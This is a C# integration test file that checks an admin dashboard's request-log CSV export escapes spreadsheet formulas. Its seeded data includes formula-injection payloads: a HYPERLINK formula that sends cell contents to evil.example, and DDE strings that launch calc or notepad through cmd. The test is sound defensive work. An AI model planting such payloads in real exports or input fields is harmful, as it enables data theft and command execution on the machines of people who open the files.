using CleanDashboard.Application.RequestLogs.Queries.ListRequestLogs;
using CleanDashboard.Domain.Entities;
using FluentAssertions;
using CleanDashboard.TestSupport;

namespace CleanDashboard.Admin.IntegrationTests.Lists;

/// <summary>Request logs whose key-holder-controlled text (model, user name) is a spreadsheet formula.</summary>
public sealed class InjectionDataFactory : AdminApiFactory
{
    public static readonly string[] Models =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "gpt-4o=1",
    ];

    public List<RequestLog> Requests { get; } = [];

    public User Formulaic { get; } = new() { Name = "=cmd|' /C notepad'!A1", CreatedAt = new DateTime(2026, 3, 1, 0, 0, 0, DateTimeKind.Utc) };

    protected override Task SeedAsync() => WithDbAsync(async db =>
    {
        db.Users.Add(Formulaic);
        await db.SaveChangesAsync();
        for (var i = 0; i < Models.Length; i++)
        {
            Requests.Add(RequestLogBuilder.ChatAt(new DateTime(2026, 3, 1, 0, i, 0, DateTimeKind.Utc))
                .Latency(i == 0 ? -1.5 : 12.5)
                .Model(Models[i])
                .Country("US")
                .Ip("198.51.100.9")
                .UserId(i == 0 ? Formulaic.Id : null)
                .Build());
        }

        db.RequestLogs.AddRange(Requests);
        await db.SaveChangesAsync();
    });
}

public sealed class RequestLogExportInjectionTests(InjectionDataFactory data) : IClassFixture<InjectionDataFactory>
{
    [Fact]
    public async Task Export_WhenTextStartsWithAFormulaCharacter_ShouldPrefixAnApostropheAndQuoteIt()
    {
        using var client = data.AdminClient();
        var raw = await client.GetStringAsync("/api/admin/request-logs/export?sort=id");

        var ids = data.Requests.Select(r => r.Id).ToArray();
        var userId = data.Formulaic.Id;
        const string Tail = ",,,,,US,198.51.100.9,";
        const string TokenDetails = ",,,,False,,gateway"; // cached input, cache writes, reasoning: none; not estimated; no key; tracked by us
        raw.Should().Be(
            string.Join(',', RequestLogDto.Columns) + "\r\n" +
            $"{ids[0]},2026-03-01T00:00:00.000Z,/v1/chat/completions,POST,200,-1.5,,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"{Tail}{userId},\"'=cmd|' /C notepad'!A1\",,{TokenDetails}\r\n" +
            $"{ids[1]},2026-03-01T00:01:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'+cmd|' /C calc'!A0\"{Tail},,,{TokenDetails}\r\n" +
            $"{ids[2]},2026-03-01T00:02:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'-2+3\"{Tail},,,{TokenDetails}\r\n" +
            $"{ids[3]},2026-03-01T00:03:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'@SUM(1+1)*cmd|' /C calc'!A0\"{Tail},,,{TokenDetails}\r\n" +
            $"{ids[4]},2026-03-01T00:04:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'\t=1+1\"{Tail},,,{TokenDetails}\r\n" +
            $"{ids[5]},2026-03-01T00:05:00.000Z,/v1/chat/completions,POST,200,12.5,,\"'\r=1+1\"{Tail},,,{TokenDetails}\r\n" +
            $"{ids[6]},2026-03-01T00:06:00.000Z,/v1/chat/completions,POST,200,12.5,,gpt-4o=1{Tail},,,{TokenDetails}\r\n");
    }

    [Fact]
    public async Task Export_WhenAFormulaIsEscaped_ShouldReadBackAsTheTextWithOneApostrophe()
    {
        using var client = data.AdminClient();
        var records = Csv.Parse(await client.GetStringAsync("/api/admin/request-logs/export?sort=id"));

        records.Skip(1).Select(r => r[7]).Should().Equal(
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "'+cmd|' /C calc'!A0",
            "'-2+3",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'\t=1+1",
            "'\r=1+1",
            "gpt-4o=1");
    }
}
